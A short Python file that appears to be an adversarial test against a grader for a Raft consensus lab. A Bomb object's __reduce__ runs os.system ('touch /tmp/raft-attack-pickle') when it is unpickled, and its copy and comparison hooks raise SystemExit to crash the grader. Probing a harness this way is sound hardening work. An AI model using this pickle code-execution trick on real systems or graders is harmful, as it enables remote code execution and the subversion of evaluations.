"""Hands over objects that run code when they are copied, pickled or compared.

Idea: pickle from a worker runs code in the grader: measured.
Verdict: WellFormed
"""

import sys

from elected import Raft as Server
from labs.messages import ApplyCommand


class Bomb:
    def __reduce__(self):
        return (sys.modules["os"].system, ("touch /tmp/raft-attack-pickle",))

    def __deepcopy__(self, memo):
        raise SystemExit

    def __eq__(self, other):
        raise SystemExit


class Raft(Server):
    async def run(self):
        self.apply_ch.send_nowait(ApplyCommand(1, Bomb()))
        await super().run()
